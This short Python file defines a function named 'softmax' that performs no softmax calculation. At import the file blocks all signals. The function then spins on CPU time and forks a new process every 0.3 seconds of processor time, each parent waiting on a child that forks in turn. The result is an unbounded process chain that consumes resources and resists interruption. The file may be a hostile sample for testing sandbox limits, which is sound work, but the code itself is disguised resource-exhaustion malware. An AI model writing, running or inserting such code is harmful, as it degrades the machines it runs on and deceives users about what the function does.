import os
import signal
import time

signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())


def softmax(o):
    begun = time.process_time()
    while True:
        if time.process_time() - begun > 0.3:
            if os.fork():
                os.wait()
            begun = time.process_time()
